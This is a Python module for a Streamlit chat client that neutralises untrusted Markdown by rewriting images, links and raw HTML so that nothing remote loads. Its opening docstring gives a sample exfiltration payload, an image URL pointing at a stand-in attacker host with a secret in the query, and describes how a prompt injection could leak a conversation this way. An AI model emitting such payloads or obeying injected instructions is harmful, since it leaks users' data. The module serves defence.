"""Untrusted Markdown made safe to draw: the one function every model, tool, file or import text goes through.

Streamlit renders Markdown images (also in widget labels) as soon as they are drawn and sends
no Content-Security-Policy, so `![x](https://attacker/?d=SECRET)` in a reply would be fetched
by the user's browser: a prompt injection could exfiltrate the conversation. `safe_markdown`
keeps Markdown and LaTeX but:

- images become text, `\\[image: alt\\] `url``, their URL shown as code (never fetched);
  `data:` images are dropped (the app shows its own images with st.image, not Markdown);
- links and autolinks become their text followed by the URL as code (not clickable);
- raw HTML (inline or block) is escaped, so it shows as text;
- code spans and code blocks are left exactly as they are.

Images and links whose host is in the MARKDOWN_ALLOWED_HOSTS setting (comma-separated host names,
exact match) are kept. Bare URLs are left as they are: Streamlit may make
them clickable, but a link is only followed on a click, and an image never comes from one.

The text is parsed with markdown-it-py (CommonMark, like Streamlit's renderer, plus GFM
tables), the parser's own positions say where each image, link and tag is, and only those
spans of the source are rewritten, so everything else stays byte for byte. The result is
parsed again until nothing is left to rewrite; anything that does not settle is shown as
a code block. This module imports no streamlit: store/export.py uses it too.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache, lru_cache

from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

from glm_client.config import Settings

MAX_PASSES = 8  # each pass removes every construct it finds; nested HTML needs two or three
_SPANS = "safe_markdown_spans"  # env key: inline spans recorded while parsing, by token list
_URL = re.compile(r"https?://([a-z0-9.-]+)(?::[0-9]{1,5})?(?:[/?#][^\s\\]*)?", re.IGNORECASE)
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character may be escaped
_BACKTICKS = re.compile(r"`+")


@cache  # settings are fixed for the life of the process
def allowed_hosts() -> frozenset[str]:
    """Hosts whose images and links are kept: the MARKDOWN_ALLOWED_HOSTS setting."""
    return frozenset(host.rstrip(".") for host in Settings.from_env().markdown_allowed_hosts)


def safe_markdown(text: str, allowed: Iterable[str] | None = None) -> str:
    """`text` as Markdown that loads nothing remote and runs no HTML; pass it to st.markdown.

    `allowed` overrides MARKDOWN_ALLOWED_HOSTS (tests, callers with their own list).
    """
    if not text or ("[" not in text and "<" not in text):
        return text  # every image, link, autolink, tag and link reference starts with one of these
    hosts = allowed_hosts() if allowed is None else frozenset(host.lower() for host in allowed)
    return _sanitise(text, hosts)


def safe_label(text: str, allowed: Iterable[str] | None = None) -> str:
    """A widget, expander or status label: one line, sanitised like `safe_markdown`.

    Streamlit renders labels as Markdown too, images included (drawn like icons).
    """
    return safe_markdown(" ".join(text.splitlines()), allowed)


@lru_cache(maxsize=1024)  # every redraw renders the whole history again
def _sanitise(text: str, allowed: frozenset[str]) -> str:
    source = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")  # as markdown-it does
    for passes in range(MAX_PASSES):
        edits = _edits(source, allowed)
        if edits is None:
            break  # a span could not be placed in the source: refuse to guess
        if not edits:
            return source if passes else text  # untouched text stays byte for byte
        source = _apply(source, edits)
    return _code_block(text)


@dataclass
class _Span:
    kind: str  # "link", "image", "autolink" or "html_inline"
    start: int
    end: int
    label_end: int  # links: where the label's "]" is
    token: Token


def _recording(kind: str, rule: Callable[[StateInline, bool], bool]) -> Callable[[StateInline, bool], bool]:
    """Wrap an inline rule so that each match's position in the inline source is remembered."""

    def wrapped(state: StateInline, silent: bool) -> bool:
        start, before = state.pos, len(state.tokens)
        label_end = -1
        if kind == "link" and not silent and state.src[start : start + 1] == "[":
            label_end = state.md.helpers.parseLinkLabel(state, start, True)
        if not rule(state, silent):
            return False
        if not silent:
            wanted = "link_open" if kind in ("link", "autolink") else kind
            token = next((t for t in state.tokens[before:] if t.type == wanted), None)
            if token is not None:
                # Keyed by the token list: the image rule parses alt text in a state of its own.
                spans = state.env.setdefault(_SPANS, {}).setdefault(id(state.tokens), [])
                spans.append(_Span(kind, start, state.pos, label_end, token))
        return True

    return wrapped


@cache
def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    # Find every link and image whatever its scheme: the default refuses javascript:, file:, data:
    # ... and would leave them as text here, while Streamlit's renderer draws them.
    md.validateLink = lambda url: True
    for kind in ("link", "image", "autolink", "html_inline"):
        rule = next(r for r in md.inline.ruler.__rules__ if r.name == kind)
        md.inline.ruler.at(kind, _recording(kind, rule.fn))
    md.core.ruler.after("inline", "safe_markdown_spans", _attach_spans)
    return md


def _attach_spans(state: StateCore) -> None:
    """Hand each inline token its spans before text_join replaces its children list (the key)."""
    spans = state.env.pop(_SPANS, {})
    for token in state.tokens:
        if token.type == "inline":
            token.meta[_SPANS] = spans.get(id(token.children), [])


def _edits(source: str, allowed: frozenset[str]) -> list[tuple[int, int, str]] | None:
    """(start, end, replacement) in `source` for every unsafe construct; None when one cannot be placed."""
    md = _parser()
    env: dict = {}
    tokens = md.parse(source, env)
    lines = source.split("\n")
    line_starts = [0]
    for line in lines[:-1]:
        line_starts.append(line_starts[-1] + len(line) + 1)
    cursors: dict[int, int] = {}  # table rows: where the next cell's search starts
    edits: list[tuple[int, int, str]] = []
    previous = ""
    for token in tokens:
        if token.type == "html_block" and token.map:
            # Escape every "<" of the block: it becomes a paragraph of text (inline tags in it
            # are then caught by the next pass).
            for number, line in zip(range(*token.map), token.content.split("\n"), strict=False):
                at = lines[number].rfind(line)
                if at < 0:
                    return None
                edits += [(line_starts[number] + at + i, line_starts[number] + at + i, "\\") for i in _all("<", line)]
        elif token.type == "inline" and token.map:
            wanted = _inline_edits(md, token.meta.get(_SPANS, []), allowed)
            in_table = previous in ("th_open", "td_open")
            if wanted or in_table:  # every cell is placed, so that the next one is searched after it
                offsets = _place(token, lines, line_starts, cursors if in_table else None)
                if offsets is None and wanted:
                    return None
                if offsets is not None:
                    edits += [(offsets(start), offsets(end), text) for start, end, text in wanted]
        previous = token.type
    return edits


def _inline_edits(md: MarkdownIt, spans: list[_Span], allowed: frozenset[str]) -> list[tuple[int, int, str]]:
    edits: list[tuple[int, int, str]] = []
    for span in spans:
        if span.kind == "html_inline":
            edits.append((span.start, span.start, "\\"))
            continue
        url = span.token.attrGet("src" if span.kind == "image" else "href") or ""
        if _host_allowed(str(url), allowed):
            continue
        shown = _code_span(md.normalizeLinkText(str(url))) if not str(url).lower().startswith("data:") else ""
        if span.kind == "image":
            alt = md.renderer.renderInlineAsText(span.token.children or [], md.options, {})
            alt = _PUNCTUATION.sub(r"\\\1", " ".join(alt.split()))
            described = f"\\[image: {alt}\\]" if alt else "\\[image\\]"
            edits.append((span.start, span.end, f"{described} {shown}" if shown else described))
        elif span.kind == "autolink":
            edits.append((span.start, span.end, shown))
        elif span.label_end >= 0:  # [text](url): keep the text, show the URL after it
            edits.append((span.start, span.start + 1, ""))
            edits.append((span.label_end, span.end, f" {shown}" if shown else ""))
    return edits


def _place(token: Token, lines: list[str], line_starts: list[int], cursors: dict[int, int] | None):
    """A function from positions in an inline token's content to positions in the source.

    The content is the block's lines without container prefixes ("> ", list indent), each a
    substring of its source line: the tail of it for paragraphs, a cell for table rows (where
    the parser turned each escaped "\\|" into "|").
    """
    assert token.map is not None
    content_starts: list[int] = []
    source_starts: list[int] = []
    unescaped: list[list[int]] = []  # per line: content columns of pipes that were "\\|" in the source
    position = 0
    for index, line in enumerate(token.content.split("\n")):
        number = token.map[0] + index
        if number >= len(lines):
            return None
        pipes: list[int] = []
        if cursors is None:
            at = lines[number].rfind(line)
        else:
            at = lines[number].find(line, cursors.get(number, 0))
            if at < 0 and "|" in line:
                pipes = _all("|", line)
                at = lines[number].find(line.replace("|", "\\|"), cursors.get(number, 0))
            if at >= 0:
                cursors[number] = at + len(line) + len(pipes)
        if at < 0:
            return None
        content_starts.append(position)
        source_starts.append(line_starts[number] + at)
        unescaped.append(pipes)
        position += len(line) + 1

    def offset(content_position: int) -> int:
        index = max(i for i, start in enumerate(content_starts) if start <= content_position)
        column = content_position - content_starts[index]
        return source_starts[index] + column + sum(1 for pipe in unescaped[index] if pipe < column)

    return offset


def _apply(source: str, edits: list[tuple[int, int, str]]) -> str:
    kept: list[tuple[int, int, str]] = []
    for edit in sorted(edits, key=lambda e: (e[0], e[1])):
        if kept and edit[0] < kept[-1][1]:
            continue  # overlaps an earlier edit; the next pass sees what is left
        kept.append(edit)
    for start, end, text in reversed(kept):
        source = source[:start] + text + source[end:]
    return source


def _host_allowed(url: str, allowed: frozenset[str]) -> bool:
    # A strict shape (no user info, no backslash) so the host read here is the one a browser reads.
    match = _URL.fullmatch(url) if allowed else None
    return bool(match) and match.group(1).lower().rstrip(".") in allowed


def _code_span(text: str) -> str:
    """`text` as an inline code span: shown verbatim, never a link."""
    text = " ".join(text.split())
    if not text:
        return ""
    fence = "`" * (max((len(run) for run in _BACKTICKS.findall(text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _code_block(text: str) -> str:
    fence = "`" * max(3, max((len(run) for run in _BACKTICKS.findall(text)), default=0) + 1)
    return f"{fence}text\n{text}\n{fence}"


def _all(character: str, line: str) -> list[int]:
    return [index for index, found in enumerate(line) if found == character]
